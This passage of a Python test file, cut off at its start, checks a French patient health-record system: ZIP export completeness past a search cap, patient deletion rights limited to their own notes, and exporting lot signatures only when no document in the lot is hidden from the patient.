    document_retrieve(caller=glass, unique_id=publish_for(personas, personas.alice, title="Bilan").unique_id)
    assert exceptional_access_notify() == 1
    assert OutboxMessage.objects.filter(destination="alice@example.org").exists()


def test_the_export_holds_every_visible_document_past_the_search_cap(personas, alice_client, monkeypatch):
    """The export took the searches' 5,000 newest documents and said nothing of the others."""
    import io
    import zipfile

    from dmp.documents import selectors

    monkeypatch.setattr(selectors, "MAX_RESULTS", 2)
    for title in ("un", "deux", "trois"):
        publish_for(personas, personas.alice, title=title)
    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(url("export_zip")).getvalue()))
    assert len([n for n in archive.namelist() if n.startswith("IHE_XDM/SUBSET01/DOC")]) == 3


def test_the_patient_withdraws_a_note_but_not_a_professionals_document(personas, alice_client):
    alice_client.post(url("document_add"), {"type_code": "EXPPAT_2", "title": "Ma note", "text": "texte"})
    note = DocumentEntry.objects.get(title="Ma note")
    page = alice_client.get(url("document", note.unique_id)).content.decode()
    assert "Supprimer ce document" in page
    answer = alice_client.post(url("document_delete", note.unique_id), {"entry_uuid": note.entry_uuid})
    assert answer.status_code == 302
    assert DocumentEntry.objects.get(pk=note.pk).availability_status == DocumentStatus.DELETED
    assert "Ma note" not in alice_client.get(url("documents")).content.decode()
    report = publish_for(personas, personas.alice, title="Compte rendu")
    assert "Supprimer ce document" not in alice_client.get(url("document", report.unique_id)).content.decode()
    refused = alice_client.post(url("document_delete", report.unique_id), {"entry_uuid": report.entry_uuid})
    assert refused.status_code in {403, 404}
    assert DocumentEntry.objects.get(pk=report.pk).availability_status == DocumentStatus.APPROVED


def test_the_export_holds_the_signature_of_each_lot_whose_every_document_it_holds(personas, alice_client):
    """A lot's signature names each of its documents: it is exported when the patient sees them
    all, and never when one of them is hidden from the patient (it would tell it exists)."""
    caller = personas.ps(personas.dr_bernard)

    def signed_lot(drafts, proof: bytes):
        submission = submission_for(ins=personas.alice.identifier, author=author_of(caller), drafts=drafts)
        signature = SubmissionSignature(
            content=proof, unique_id=f"2.25.{len(proof)}", signer_fingerprint="ab" * 32, signed_at=clock.now()
        )
        return submission_register(caller=caller, submission=submission, signature=signature)

    signed_lot([DocumentDraft(title="Lot visible"), DocumentDraft(title="Lot visible 2")], b"<proof-1/>")
    signed_lot(
        [
            DocumentDraft(title="Visible"),
            DocumentDraft(title="Cachée", confidentiality=("N", "INVISIBLE_PATIENT")),
        ],
        b"<proof-naming-a-hidden-document/>",
    )
    publish_for(personas, personas.alice, title="Sans signature")
    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(url("export_zip")).getvalue()))
    signatures = sorted(n for n in archive.namelist() if n.startswith("SIGNATURES/"))
    assert signatures == ["SIGNATURES/SIG00001.XML"]
    assert archive.read(signatures[0]) == b"<proof-1/>"
    assert len([n for n in archive.namelist() if n.startswith("IHE_XDM/SUBSET01/DOC")]) == 4
    assert "1 signature(s)" in archive.read("INDEX.HTM").decode()
    assert "SIGNATURES/SIG*.XML" in archive.read("README.TXT").decode()
